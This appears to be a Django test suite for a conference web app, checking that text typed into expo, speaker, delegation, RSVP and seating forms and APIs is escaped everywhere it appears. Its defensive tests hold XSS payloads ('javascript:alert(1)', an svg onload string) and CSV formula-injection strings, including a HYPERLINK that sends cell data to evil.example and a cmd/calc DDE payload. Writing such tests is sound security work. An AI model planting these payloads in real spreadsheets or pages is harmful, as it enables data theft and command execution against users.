    applied = rep.post(f"/editions/{YEAR}/expo/apply/", data, HTTP_ACCEPT_LANGUAGE="en", follow=True)
    assert applied.redirect_chain[-1][1] == 302
    assert_shows(applied.content.decode(), sent["organization_name_en"])  # the thank-you message and the edit page
    exhibitor = Exhibitor.objects.get(organization__name_zh=sent["organization_name_zh"])
    assert (exhibitor.products_en, exhibitor.description_en, exhibitor.contact_phone) == (sent["products_en"], sent["description_en"], sent["contact_phone"])

    organizer = world.users["organizer"]
    with django_capture_on_commit_callbacks(execute=True):
        services.exhibitor_decide(exhibitor=exhibitor, status="approved", actor=organizer)
    email_html_ok(OutgoingEmail.objects.get(key__startswith=f"expo.decision:{exhibitor.pk}:"), sent["organization_name_zh"])
    services.booth_allot(booth=Booth.objects.get(edition=edition, code="A-01"), exhibitor=exhibitor, actor=organizer)

    # The representative edits the entry, posts an opening and puts a launch on the stage.
    data, edited = filled(ExhibitorEditForm(), website="https://example.org/y", contact_email="xss-ex@example.org", fields=["ai"])
    assert set(edited) == {"products_zh", "products_en", "description_zh", "description_en", "contact_name", "contact_phone"}
    edit_url = f"/editions/{YEAR}/expo/exhibitors/{exhibitor.pk}/edit/"
    assert rep.post(edit_url, {**data, "action": "edit"}, HTTP_ACCEPT_LANGUAGE="en").status_code == 302
    data, opening = filled(OpeningForm(prefix="opening"), field="ai", count="2")
    assert set(opening) == {"title_zh", "title_en", "city", "description"}
    assert rep.post(edit_url, {**data, "action": "opening"}, HTTP_ACCEPT_LANGUAGE="en").status_code == 302
    day = edition.start_date.isoformat()
    data, launch = filled(LaunchForm(prefix="launch"), start=f"{day}T13:00", end=f"{day}T13:30")
    assert set(launch) == {"title_zh", "title_en", "description_zh"}
    assert rep.post(edit_url, {**data, "action": "launch"}, HTTP_ACCEPT_LANGUAGE="en").status_code == 302
    assert_shows(html_of(rep, edit_url), opening["title_en"], launch["title_en"])

    public = Client()
    names = (sent["organization_name_zh"], sent["organization_name_en"])
    assert_shows(html_of(public, f"/editions/{YEAR}/expo/"), *names, edited["products_en"])
    exhibitor_page = html_of(public, f"/editions/{YEAR}/expo/exhibitors/{exhibitor.pk}/")
    assert_shows(exhibitor_page, *names, edited["products_en"], edited["description_en"], opening["title_en"], opening["city"], launch["title_en"])
    assert_shows(html_of(public, f"/editions/{YEAR}/expo/map/"), sent["organization_name_en"])
    assert_shows(html_of(public, f"/editions/{YEAR}/expo/openings/"), opening["title_en"], opening["city"], sent["organization_name_en"])
    session = Launch.objects.get(exhibitor=exhibitor).session
    assert_shows(html_of(public, f"/editions/{YEAR}/agenda/?day={day}"), launch["title_en"])
    assert_shows(html_of(public, f"/editions/{YEAR}/sessions/{session.pk}/"), launch["title_en"])
    xml = public.get(f"/editions/{YEAR}/schedule.xml").content.decode()
    assert_no_raw(xml)
    assert escape(launch["title_zh"]).replace("&quot;", '"') in xml  # XML text: <, > and & escaped

    # A guest asks for a meeting: the message reaches the representative as text, and by email.
    data, message = filled(MeetingForm(), start=f"{day}T15:00", minutes="30")
    assert set(message) == {"message"}
    guest = signed_in(client, world.users["attendee"])
    with django_capture_on_commit_callbacks(execute=True):
        asked = guest.post(f"/editions/{YEAR}/expo/exhibitors/{exhibitor.pk}/", data, HTTP_ACCEPT_LANGUAGE="en")
    assert asked.status_code == 302
    meeting = MeetingRequest.objects.get(exhibitor=exhibitor)
    assert meeting.message == message["message"]
    mail = OutgoingEmail.objects.get(event="expo.meeting_requested", body_text__contains=message["message"])
    assert mail.subject == f"A guest asks {sent['organization_name_zh']} for a meeting"  # plain text, not HTML-escaped
    email_html_ok(mail, message["message"])
    assert escape(sent["organization_name_zh"]) in mail.body_html
    assert_shows(html_of(signed_in(client, user), f"/editions/{YEAR}/expo/meetings/"), message["message"])

    admin = signed_in(client, organizer)
    admin_pages(admin, exhibitor, listed=(sent["organization_name_zh"],))
    admin_pages(admin, meeting)
    admin_pages(admin, TalentListing.objects.get(exhibitor=exhibitor))
    admin_pages(admin, Launch.objects.get(exhibitor=exhibitor), listed=(launch["title_zh"],))
    admin_pages(admin, mail)
    assert_no_raw(html_of(admin, f"/admin/dashboard/{YEAR}/"))
    for fmt in ("csv", "xlsx"):
        rows = export_rows(admin, "/admin/expo/exhibitor/", fmt)
        assert any(sent["organization_name_zh"] in row and edited["products_en"] in row for row in rows)


def world_edition():
    from wic.models import Edition

    return Edition.objects.get(year=YEAR)


def test_expo_api_keeps_text_as_data_and_refuses_a_script_address(world, api_client):
    from expo.serializers import ApplicationInputSerializer, ExhibitorUpdateSerializer

    user = new_user("xss-exhibitor-api")
    api = signed_in(api_client, user)
    codes = {"country": "CN", "website": "https://example.org", "contact_email": "api-ex@example.org"}
    body, sent = json_filled(ApplicationInputSerializer(), codes=codes)
    assert set(sent) == {"organization_name_zh", "organization_name_en", "products_zh", "products_en", "description_zh", "description_en", "contact_name", "contact_phone"}
    body.update(edition=YEAR, fields=["ai"], booth_size=9)
    refused = api.post("/api/v1/exhibitors/", {**body, "website": "javascript:alert(1)"}, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert (refused.status_code, refused.json()["code"]) == (400, "invalid")
    response = api.post("/api/v1/exhibitors/", body, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 201 and response["Content-Type"] == "application/json"
    created = response.json()
    assert (created["name_zh"], created["products_en"], created["description_en"]) == (sent["organization_name_zh"], sent["products_en"], sent["description_en"])

    body, edited = json_filled(ExhibitorUpdateSerializer(), codes={"website": "https://example.org/z", "contact_email": "api-ex@example.org"})
    assert set(edited) == {"products_zh", "products_en", "description_zh", "description_en", "contact_name", "contact_phone"}
    script_site = api.patch(f"/api/v1/exhibitors/{created['id']}/", {"website": "javascript:alert(1)"}, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert (script_site.status_code, script_site.json()["code"]) == (400, "invalid")
    updated = api.patch(f"/api/v1/exhibitors/{created['id']}/", body, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert updated.status_code == 200 and updated.json()["products_en"] == edited["products_en"]
    assert_shows(html_of(api, f"/editions/{YEAR}/expo/exhibitors/{created['id']}/edit/"), sent["organization_name_en"])
    admin = signed_in(api_client, world.users["organizer"])
    assert_shows(html_of(admin, reverse("admin:expo_exhibitor_change", args=[created["id"]])), *edited.values())


def test_gate_and_device_names_are_the_only_free_text_of_a_scan():
    from registration.checkin_api import ScanSerializer

    # `secret` and `nonce` are codes the service looks up; `gate` and `device` are shown in the admin (tested above).
    assert set(serializer_text_fields(ScanSerializer())) == {"secret", "nonce", "gate", "device"}


# -- people: the speaker's answer (issue 22) ------------------------------------------------------------

def page_in(client, url: str, language: str) -> str:
    response = client.get(url, HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200, (url, response.status_code)
    return response.content.decode()


def test_a_speakers_answer_is_escaped_on_their_page_the_session_the_person_page_and_the_admin(world, client):
    """The speaker answers at /speakers/<token>/ (people.views.SpeakerAnswerForm): the printed
    title, affiliation and bio they type reach the agenda item's page, the person page, the
    directory and the admin as text; the API gives them back as data."""
    from agenda.models import Session
    from people import invitations
    from people.views import SpeakerAnswerForm

    edition = world_edition()
    session = Session.objects.create(edition=edition, title_zh="发言人答复测试", title_en="Speaker answer test", date=edition.start_date, kind="sub_forum", is_published=True)
    names = {"name_zh": payload("person-name_zh"), "name_en": payload("person-name_en")}
    appearance = invitations.invite_person(session, role="speech", email="xss-answer@example.org", language="en", actor=world.users["organizer"], **names)
    email_html_ok(OutgoingEmail.objects.get(to=["xss-answer@example.org"], event="people.invitation"), names["name_en"])
    url = f"/speakers/{invitations.speaker_token(appearance)}/"
    assert_shows(html_of(client, url), names["name_en"])

    data, sent = filled(SpeakerAnswerForm())
    assert set(sent) == {"answer", "attendance_mode", "title_zh", "title_en", "affiliation_zh", "affiliation_en", "bio_zh", "bio_en"}
    text = {name: value for name, value in sent.items() if name not in SpeakerAnswerForm.RADIOS}
    # The two radio buttons are CharFields the service checks: a typed answer is refused, and the page shows back what was typed, as text.
    refused = client.post(url, data, HTTP_ACCEPT_LANGUAGE="en")
    assert refused.status_code == 400
    assert_shows(refused.content.decode(), *text.values())
    assert 'data-code="unknown_answer"' in refused.content.decode()
    done = client.post(url, {**data, "answer": "confirm", "attendance_mode": "on_site"}, HTTP_ACCEPT_LANGUAGE="en")
    assert done.status_code == 200
    assert_no_raw(done.content.decode())
    appearance.refresh_from_db()
    person = appearance.person
    person.refresh_from_db()
    assert appearance.status == "confirmed"
    assert {name: getattr(appearance, name) for name in ("title_zh", "title_en", "affiliation_zh", "affiliation_en")} | {
        name: getattr(person, name) for name in ("bio_zh", "bio_en")
    } == text
    assert_no_raw(html_of(client, url, status=410))  # the link is used up; the refusal names nothing typed

    # Confirmed, the speaker is public: the agenda item and the person page, in both languages.
    for language, suffix in (("en", "en"), ("zh-hans", "zh")):
        assert_shows(page_in(client, f"/editions/{YEAR}/sessions/{session.pk}/", language), names[f"name_{suffix}"], text[f"title_{suffix}"])
        assert_shows(page_in(client, f"/people/{person.pk}/", language), names[f"name_{suffix}"], text[f"title_{suffix}"], text[f"bio_{suffix}"])
    assert_shows(html_of(client, f"/editions/{YEAR}/people/"), names["name_en"])
    from urllib.parse import urlencode

    assert_no_raw(client.get(f"/editions/{YEAR}/people/?{urlencode({'q': names['name_en']})}", HTTP_ACCEPT_LANGUAGE="en").content.decode())
    api = client.get(f"/api/v1/people/{person.pk}/", HTTP_ACCEPT_LANGUAGE="en")
    assert (api.status_code, api["Content-Type"]) == (200, "application/json")
    assert (api.json()["name_en"], api.json()["bio_en"], api.json()["appearances"][0]["title_zh"]) == (names["name_en"], text["bio_en"], text["title_zh"])

    admin = signed_in(client, world.users["organizer"])
    admin_pages(admin, appearance)
    assert_shows(html_of(admin, reverse("admin:people_appearance_change", args=[appearance.pk])), text["title_en"], text["affiliation_zh"], text["affiliation_en"])
    admin_pages(admin, person, listed=(names["name_en"],))
    assert_shows(html_of(admin, reverse("admin:people_person_change", args=[person.pk])), text["bio_zh"], text["bio_en"])
    assert_no_raw(html_of(admin, f"/admin/dashboard/{YEAR}/"))


# -- protocol: delegations, invitation cards, seating (issue 23) ------------------------------------------

def _xss_guest(key: str):
    """An approved guest of 2088 whose name, Chinese name, organization and title are payloads (English pages and emails)."""
    from registration import services

    data = {
        "name": payload(f"{key}-name"), "name_zh": payload(f"{key}-name_zh", 100), "organization_name": payload(f"{key}-org"), "title": payload(f"{key}-title"),
        "email": f"xss-{key}@example.org", "country": "FR", "category": "government", "participation": "on_site", "consent": True,
    }
    registration = services.registration_create(edition=world_edition(), data=data, language="en")
    services.registration_decide(registration=registration, status="approved", actor=None)
    registration.refresh_from_db()
    assert registration.status == "approved"
    return registration


def test_a_delegation_is_escaped_on_the_organizers_page_the_heads_page_the_api_and_the_admin(world, client, api_client):
    """Organizers create a delegation through the API (DelegationWriteSerializer): its names and
    notes, and its members' names, titles and organizations (typed at registration), reach the
    organizers' page, the head's private page and the admin as text."""
    from protocol import delegations
    from protocol.models import Delegation
    from protocol.serializers_delegations import DelegationWriteSerializer, MemberInputSerializer

    organizer = world.users["organizer"]
    head, member = _xss_guest("head"), _xss_guest("member")
    body, sent = json_filled(DelegationWriteSerializer(), codes={"kind": "government", "country": "FR"})
    assert set(sent) == {"name_zh", "name_en", "notes"}
    api = signed_in(api_client, organizer)
    created = api.post("/api/v1/delegations/", {**body, "edition": YEAR, "head": head.pk, "languages": ["fr"]}, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert created.status_code == 201 and created["Content-Type"] == "application/json"
    answer = created.json()
    assert {name: answer[name] for name in sent} == sent
    assert not serializer_text_fields(MemberInputSerializer())
    added = api.post(f"/api/v1/delegations/{answer['id']}/members/", {"registration": member.pk}, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert added.status_code == 201
    assert [(m["name"], m["name_zh"], m["organization"], m["title"]) for m in added.json()["members"]] == [
        (r.name, r.name_zh, r.organization_name, r.title) for r in (head, member)
    ]
    delegation = Delegation.objects.get(pk=answer["id"])
    assert (delegation.name_zh, delegation.name_en, delegation.notes) == (sent["name_zh"], sent["name_en"], sent["notes"])
    browsable = api.get(f"/api/v1/delegations/{delegation.pk}/", HTTP_ACCEPT="text/html", HTTP_ACCEPT_LANGUAGE="en")
    assert browsable["Content-Type"].startswith("text/html")
    assert_no_raw(browsable.content.decode())

    admin = signed_in(client, organizer)
    page = f"/protocol/delegations/{delegation.pk}/"
    organizers = html_of(admin, page)
    members_text = [value for r in (head, member) for value in (r.name, r.name_zh, r.title, r.organization_name)]
    assert_shows(organizers, sent["name_en"], sent["notes"], *members_text)
    with_link = admin.post(page, {"action": "head_link"}, HTTP_ACCEPT_LANGUAGE="en")
    assert with_link.status_code == 200
    assert_shows(with_link.content.decode(), sent["name_en"], *members_text)
    assert_shows(page_in(admin, page, "zh-hans"), sent["name_zh"])

    # The head's private page: the same names, never the organizers' notes.
    head_page = html_of(Client(), f"/delegation/{delegations.head_link_token(delegation)}/")
    assert_shows(head_page, sent["name_en"], *members_text)
    assert escape(sent["notes"]) not in head_page

    admin_pages(admin, delegation, listed=(sent["name_zh"], sent["name_en"]))
    assert_shows(html_of(admin, reverse("admin:protocol_delegation_change", args=[delegation.pk])), sent["notes"], head.name)
    assert_no_raw(html_of(admin, f"/admin/dashboard/{YEAR}/"))


def test_invitation_cards_answers_and_seats_are_escaped_for_the_invitee_organizers_emails_and_pdfs(world, client, api_client):
    """Issue 23's cards: the invitee proposes a substitute on the RSVP page (SubstituteForm) and
    through the API (RsvpAnswerSerializer); the names and titles typed, and the guests' and the
    delegation's names, reach the RSVP page and its confirmation, the emails, the seating plan
    (the SVG, its lists and the move form), the admin and the PDFs."""
    from protocol import delegations, invitations, seating
    from protocol.models import InvitationCard, InvitationItem, SeatAssignment, SeatingPlan
    from protocol.serializers_rsvp import RsvpAnswerSerializer
    from protocol.views_rsvp import SubstituteForm
    from protocol.views_seating import _short

    organizer = world.users["organizer"]
    head, member, substitute = _xss_guest("head"), _xss_guest("member"), _xss_guest("substitute")
    names = {"name_zh": payload("delegation-name_zh"), "name_en": payload("delegation-name_en")}
    delegation = delegations.delegation_save(edition=world_edition(), kind="government", head=head, actor=organizer, **names)
    delegations.member_add(delegation, member, actor=organizer)
    item = InvitationItem.objects.get(pk=world.ids["invitation_item"])
    assert item.transferable
    invitations.cards_send(item, delegations=[delegation], actor=organizer)
    head_card, member_card = (InvitationCard.objects.get(item=item, registration=r) for r in (head, member))
    for guest in (head, member):
        email_html_ok(OutgoingEmail.objects.get(to=[guest.email], event="protocol.card"), guest.name)

    # The head accepts on the RSVP page; the member proposes a substitute there.
    head_url = f"/rsvp/{invitations.card_token(head_card)}/"
    assert_shows(html_of(client, head_url), head.name)
    assert client.post(head_url, {"answer": "accept"}, HTTP_ACCEPT_LANGUAGE="en").status_code == 303
    assert_shows(html_of(client, head_url), head.name)
    member_url = f"/rsvp/{invitations.card_token(member_card)}/"
    data, proposed = filled(SubstituteForm(), answer="substitute")
    assert set(proposed) == {"substitute_name", "substitute_email", "substitute_title"}
    refused = client.post(member_url, data, HTTP_ACCEPT_LANGUAGE="en")  # the email is not one: `invalid_email`, and the form back as text
    assert refused.status_code == 400
    assert_shows(refused.content.decode(), member.name, *proposed.values())
    assert client.post(member_url, {**data, "substitute_email": substitute.email}, HTTP_ACCEPT_LANGUAGE="en").status_code == 303
    member_card.refresh_from_db()
    assert (member_card.status, member_card.substitute_name, member_card.substitute_title) == ("substitute_proposed", proposed["substitute_name"], proposed["substitute_title"])
    assert_shows(html_of(client, member_url), member.name, proposed["substitute_name"])

    admin = signed_in(client, organizer)
    admin_pages(admin, member_card, listed=(proposed["substitute_name"], member.name_zh or member.name))
    assert_shows(html_of(admin, reverse("admin:protocol_invitationcard_change", args=[member_card.pk])), proposed["substitute_title"])

    # Refused, the substitute is named in the email that reopens the card.
    invitations.substitute_decide(member_card, approve=False, actor=organizer)
    member_card.refresh_from_db()
    email_html_ok(OutgoingEmail.objects.filter(to=[member.email], event="protocol.card").latest("pk"), member.name, proposed["substitute_name"])

    # The member proposes again through the API; approved, the substitute's card and email name the member.
    body, again = json_filled(RsvpAnswerSerializer(), codes={"answer": "substitute", "substitute_email": substitute.email})
    assert set(again) == {"substitute_name", "substitute_title"}
    rsvp = api_client.post(f"/api/v1/rsvp/{invitations.card_token(member_card)}/", body, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert (rsvp.status_code, rsvp["Content-Type"], rsvp.json()["code"]) == (202, "application/json", "substitute_needs_approval")
    assert (rsvp.json()["guest"], rsvp.json()["substitute"]["name"], rsvp.json()["substitute"]["title"]) == (member.name, again["substitute_name"], again["substitute_title"])
    new_card = invitations.substitute_decide(member_card, approve=True, actor=organizer)
    email_html_ok(OutgoingEmail.objects.filter(to=[substitute.email], event="protocol.card").latest("pk"), substitute.name, member.name_zh)
    assert_shows(html_of(client, f"/rsvp/{invitations.card_token(new_card)}/"), substitute.name, member.name)
    assert_shows(html_of(client, f"/rsvp/{invitations.card_token(member_card)}/"), member.name, again["substitute_name"])
    admin_pages(admin, new_card, listed=(substitute.name_zh,))
    admin_pages(admin, item)

    # The seating plan: the guests without a seat, then (auto-seated) the SVG's seats, its lists and the move form.
    plan = SeatingPlan.objects.get(pk=world.ids["seating_plan"])
    plan_url = f"/protocol/plans/{plan.pk}/"
    guests = [value for r in (head, substitute) for value in (r.name, r.name_zh)]
    assert_shows(html_of(admin, plan_url), names["name_en"], *guests)
    report = seating.auto_seat(plan, actor=organizer)
    assert (report.seated, report.unseated) == (3, {})  # the world's attendee, the head and the substitute
    seated = html_of(admin, plan_url)
    assert_shows(seated, names["name_en"], *guests, f"{head.name} · {head.name_zh}")
    short = _short(head.name, 9)  # the name under a seat of the SVG, cut: "<script>…"
    assert short == "<script>…" and escape(short) in seated and short not in seated
    assert_shows(page_in(admin, plan_url, "zh-hans"), names["name_zh"], *guests)
    moved = admin.post(f"{plan_url}move/", {"card": payload("card"), "block": payload("block"), "number": "1", "action": "move"}, HTTP_ACCEPT_LANGUAGE="en")
    assert moved.status_code == 400
    assert_no_raw(moved.content.decode())
    assert_no_raw(html_of(admin, "/protocol/plans/"))
    for pdf in ("place-cards.pdf", "table-plan.pdf"):  # names drawn as text: nothing to execute
        response = admin.get(f"{plan_url}{pdf}")
        assert (response.status_code, response["Content-Type"], response.content[:5]) == (200, "application/pdf", b"%PDF-")
    seats = signed_in(api_client, organizer).get(f"/api/v1/seating-plans/{plan.pk}/seats/", HTTP_ACCEPT_LANGUAGE="en")
    assert seats.status_code == 200 and seats["Content-Type"] == "application/json"
    assert {(s["guest"]["name"], s["guest"]["name_zh"]) for s in seats.json()["seats"]} >= {(head.name, head.name_zh), (substitute.name, substitute.name_zh)}
    assert_shows(html_of(client, head_url), head.name)  # the confirmation, now with the seat

    # The delegation's pages: the itinerary lists each member's card.
    assert_shows(html_of(admin, f"/protocol/delegations/{delegation.pk}/"), names["name_en"], head.name, member.name)
    assert_shows(html_of(Client(), f"/delegation/{delegations.head_link_token(delegation)}/"), names["name_en"], head.name, member.name)
    admin_pages(admin, plan, typed=False)  # the plan's page lists its tables, not its guests
    admin_pages(admin, SeatAssignment.objects.get(card=new_card))
    assert_no_raw(html_of(admin, f"/admin/dashboard/{YEAR}/"))


def test_a_language_typed_into_the_cards_api_is_refused_and_never_stored(world, api_client):
    """CardSendSerializer and ResendSerializer take text only as `language`: a code the service
    checks (`unknown_language`) before anything is written."""
    from protocol.models import InvitationCard
    from protocol.serializers_rsvp import CardSendSerializer, ResendSerializer

    assert set(serializer_text_fields(CardSendSerializer())) == set(serializer_text_fields(ResendSerializer())) == {"language"}
    typed = '"><svg onload=1>'  # 16 characters: the field holds 20
    api = signed_in(api_client, world.users["organizer"])
    before = list(InvitationCard.objects.order_by("pk").values_list("pk", "language", "link_nonce"))
    sent = api.post("/api/v1/invitation-cards/", {"item": world.ids["invitation_item"], "registrations": [world.ids["protocol_guest"]], "language": typed}, format="json", HTTP_ACCEPT_LANGUAGE="en")
    resent = api.post(f"/api/v1/invitation-cards/{world.ids['invited_card']}/resend/", {"language": typed}, format="json", HTTP_ACCEPT_LANGUAGE="en")
    for response in (sent, resent):
        assert (response.status_code, response["Content-Type"], response.json()["code"]) == (400, "application/json", "unknown_language")
    assert list(InvitationCard.objects.order_by("pk").values_list("pk", "language", "link_nonce")) == before


# -- words typed into an address and rows of an imported file -------------------------------------------

def test_search_words_in_the_address_are_escaped(world, client):
    from urllib.parse import urlencode

    words = payload("search")
    for path, params in (
        (f"/editions/{YEAR}/expo/", {"q": words}),
        (f"/editions/{YEAR}/expo/openings/", {"city": words}),
        (f"/editions/{YEAR}/agenda/", {"search": words, "kind": words, "day": words}),
        (f"/editions/{YEAR}/my-agenda/", {"s": words}),
    ):
        response = client.get(f"{path}?{urlencode(params)}", HTTP_ACCEPT_LANGUAGE="en")
        assert response.status_code in (200, 400), path
        assert_no_raw(response.content.decode())
    assert_shows(html_of(client, f"/editions/{YEAR}/expo/?{urlencode({'q': words})}"), words)
    assert_shows(html_of(client, f"/editions/{YEAR}/expo/openings/?{urlencode({'city': words})}"), words)


def test_import_preview_shows_the_file_as_text(world, client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["organization_zh", "organization_en", "country", "fields", "products_zh", "booth_size", "contact_name", "contact_email", "status"])
    writer.writerow([payload("org"), "x", payload("country"), "ai", "p", "9", "c", "c@example.org", "x"])
    content = out.getvalue().encode()
    admin = signed_in(client, world.users["organizer"])
    upload = SimpleUploadedFile("list.csv", content, content_type="text/csv")
    preview = admin.post("/admin/expo/exhibitor/import/", {"edition": world_edition().pk, "file": upload}, HTTP_ACCEPT_LANGUAGE="en")
    assert preview.status_code == 200
    result = preview.context["result"]
    assert (result.rows[0].organization, result.codes()) == (payload("org"), {2: ["unknown_country", "invalid_choice"]})
    assert_shows(preview.content.decode(), payload("org"), payload("country"))


# -- spreadsheet exports: no formula from a user's text ------------------------------------------------

FORMULAS = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "organization_name": "+1+cmd|' /C calc'!A0", "title": "-2+3", "languages": "@SUM(1,1)"}


def test_admin_exports_neutralize_formulas(world, client):
    from registration import services

    registration = services.registration_create(
        edition=world_edition(),
        data={**FORMULAS, "email": "formula@example.org", "country": "FR", "category": "government", "participation": "on_site", "consent": True},
    )
    admin = signed_in(client, world.users["organizer"])
    header, *rows = export_rows(admin, "/admin/registration/registration/", "csv")
    row = next(r for r in rows if r[0] == registration.reference)
    cells = dict(zip(header, row))
    assert (cells["name"], cells["organization"], cells["title or position"], cells["languages spoken"]) == (
        "'" + FORMULAS["name"], "'" + FORMULAS["organization_name"], "'" + FORMULAS["title"], "'" + FORMULAS["languages"],
    )
    response = admin.get("/admin/registration/registration/export/xlsx/", HTTP_ACCEPT_LANGUAGE="en")
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    found = next(r for r in sheet.iter_rows() if r[0].value == registration.reference)
    by_header = {sheet.cell(row=1, column=c.column).value: c for c in found}
    # XLSX keeps the exact text, stored as text: never a formula cell.
    assert (by_header["name"].value, by_header["name"].data_type) == (FORMULAS["name"], "s")
    assert (by_header["title or position"].value, by_header["title or position"].data_type) == ("-2+3", "s")


def test_volunteer_hours_csv_neutralizes_formulas_with_the_same_rule():
    from volunteers.selectors import _cell
    from wic.admin_export import formula_safe

    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert formula_safe(text) == _cell(text) == "'" + text
    assert formula_safe("Ada") == "Ada" and formula_safe("") == ""


# -- guards: nothing new goes untested -----------------------------------------------------------------

TESTED_FORMS = {
    "registration.forms.RegistrationForm", "forums.forms.ApplicationForm", "forums.forms.ReviewForm",
    "awards.forms.RecommendForm", "awards.forms.IndividualForm", "awards.forms.ApplicationForm",
    "volunteers.forms.ApplicationForm", "volunteers.forms.ChangeRequestForm", "forums.forms.HostInviteForm",
    "expo.forms.ApplicationForm", "expo.forms.ExhibitorEditForm", "expo.forms.OpeningForm", "expo.forms.LaunchForm", "expo.forms.MeetingForm",
    "people.views.SpeakerAnswerForm", "protocol.views_rsvp.SubstituteForm",
}
# Forms without free text: a file and choices (the import's rows are shown through the same templates,
# test_upload_limits), an email address, a guest, a table and a seat number chosen on the seating plan.
NO_TEXT_FORMS = {"expo.forms.ImportForm", "wic.forms.QueuedPasswordResetForm", "protocol.views_seating.MoveForm"}
TESTED_SERIALIZERS = {
    "registration.serializers.RegistrationInputSerializer", "forums.serializers.ForumApplicationWriteSerializer",
    "forums.serializers.ApplicationOrganizationInputSerializer", "forums.serializers.ScoreSerializer",
    "awards.serializers.RecommendationInputSerializer", "awards.serializers.NominationInputSerializer", "awards.serializers.ScoreInputSerializer",
    "expo.serializers.ApplicationInputSerializer", "expo.serializers.ExhibitorUpdateSerializer", "registration.checkin_api.ScanSerializer",
    "protocol.serializers_delegations.DelegationWriteSerializer", "protocol.serializers_rsvp.RsvpAnswerSerializer",
    "protocol.serializers_rsvp.CardSendSerializer", "protocol.serializers_rsvp.ResendSerializer",
    "wic.api_webhooks.WebhookEndpointInputSerializer",  # issue 28: tests/wic/test_webhooks.py, test_markup_typed_into_an_endpoint_is_shown_as_text
}
# Read from requests but never shown: a username and password to obtain a token.
# Issue 28's API writes, each with its escaping test (named in the comment) or in its area's tests.
TESTED_SERIALIZERS |= {
    # test_volunteer_api_text_is_escaped_on_the_lead_and_admin_pages
    "volunteers.serializers.VolunteerApplicationInputSerializer", "volunteers.serializers.VolunteerInterviewInputSerializer",
    "volunteers.serializers.ChangeRequestInputSerializer", "volunteers.serializers.ShiftScanInputSerializer",
    "volunteers.serializers.TrainingAttendanceByCodeInputSerializer",
    # tests/agenda/test_api_writes.py, tests/forums/test_api_decide.py, tests/awards/test_api_decide.py, tests/people/test_api_writes.py (markup tests)
    "agenda.serializers.VenueWriteSerializer", "agenda.serializers.HallWriteSerializer", "agenda.serializers.BoardWriteSerializer",
    "agenda.serializers.SessionWriteSerializer", "agenda.serializers.OutcomeWriteSerializer", "forums.serializers.ForumDecisionInputSerializer",
    "forums.serializers.ForumBulkDecisionInputSerializer", "awards.serializers.NominationSingleDecisionInputSerializer",
    "awards.serializers.NominationBulkDecisionInputSerializer", "people.api.PersonWriteSerializer",
    # tests/expo/test_api_coverage.py (the escaping test: answers keep the text, pages escape it)
    "expo.serializers.ExhibitorDecisionInputSerializer", "expo.serializers.ExhibitorBulkDecisionInputSerializer", "expo.serializers.LaunchInputSerializer",
    "expo.serializers.OpeningInputSerializer", "expo.serializers.ExpoMeetingInputSerializer",
    # test_speaker_invitations_through_the_api_are_escaped_on_the_pages_and_the_admin, test_seating_block_labels_from_the_api_are_escaped_on_the_plan
    "people.serializers_invitations.SpeakerInviteSerializer", "people.serializers_invitations.SpeakerAnswerSerializer",
    "protocol.serializers_seating.PlanBlockInputSerializer",
}
NEVER_SHOWN_SERIALIZERS = {
    "wic.api.ObtainTokenSerializer",
    "awards.serializers.ReviewerInputSerializer",  # a username looked up; the typed text is never shown
    "people.serializers_invitations.SpeakerSendSerializer",  # a language code, checked against the languages
    "protocol.serializers_seating.PlanCreateSerializer",  # its own text is the layout, a choice (the blocks' labels are tested)
}


def _app_modules(app: str, stem: str) -> list[str]:
    """The app's module `stem` and every `stem_*` module beside it (protocol.api_rsvp,
    protocol.views_seating, ...): an app may split its pages or its API into parts."""
    package = importlib.import_module(app)
    names = sorted(name for _finder, name, is_package in pkgutil.iter_modules(package.__path__) if not is_package and (name == stem or name.startswith(f"{stem}_")))
    return [f"{app}.{name}" for name in names]


def _classes(module_name: str, base) -> dict[str, type]:
    try:
        module = importlib.import_module(module_name)
    except ModuleNotFoundError:
        return {}
    return {
        f"{module_name}.{name}": cls for name, cls in inspect.getmembers(module, inspect.isclass)
        if issubclass(cls, base) and cls.__module__ == module_name
    }


def _input_serializers() -> dict[str, type]:
    """The serializers the API reads requests with: those an API module instantiates with `data=`,
    and every serializer nested in them (lists of, dicts of)."""
    found = {}
    for module_name in [name for app in APPS for name in _app_modules(app, "api")] + ["registration.checkin_api"]:
        if importlib.util.find_spec(module_name) is None:
            continue
        module = importlib.import_module(module_name)
        for name in re.findall(r"(\w+Serializer)\([^()]*\bdata=", inspect.getsource(module)):
            cls = getattr(module, name)
            found[f"{cls.__module__}.{cls.__qualname__}"] = cls
    queue = list(found.values())
    while queue:
        for field in queue.pop()().fields.values():
            inner = getattr(field, "child", field)
            if isinstance(inner, drf.BaseSerializer):
                cls = type(inner)
                path = f"{cls.__module__}.{cls.__qualname__}"
                if path not in found:
                    found[path] = cls
                    queue.append(cls)
    return found


def _instance(cls):
    """An instance to read the fields from (forms needing a call, programme or zones get real ones)."""
    from awards.models import AwardProgramme
    from forums.models import ForumCall

    kwargs = {}
    parameters = inspect.signature(cls.__init__).parameters
    if "call" in parameters:
        kwargs["call"] = ForumCall.objects.first()
    if "programme" in parameters:
        kwargs["programme"] = AwardProgramme.objects.first()
    if "criteria" in parameters:
        kwargs["criteria"] = []
    if "data_seating" in parameters:
        from protocol import seating
        from protocol.models import SeatingPlan

        kwargs["data_seating"] = seating.plan_seating(SeatingPlan.objects.first())
    return cls(**kwargs)


def test_forms_and_serializers_with_free_text_are_all_covered(world):
    found_forms = {}
    for app in APPS:
        # Forms live in <app>.forms, and some next to the page that uses them (<app>.views, <app>.views_*).
        for module_name in [f"{app}.forms", *_app_modules(app, "views")]:
            found_forms.update(_classes(module_name, forms.BaseForm))
    assert set(found_forms) == TESTED_FORMS | NO_TEXT_FORMS
    for path in NO_TEXT_FORMS:
        assert form_text_fields(_instance(found_forms[path])) == {}, path
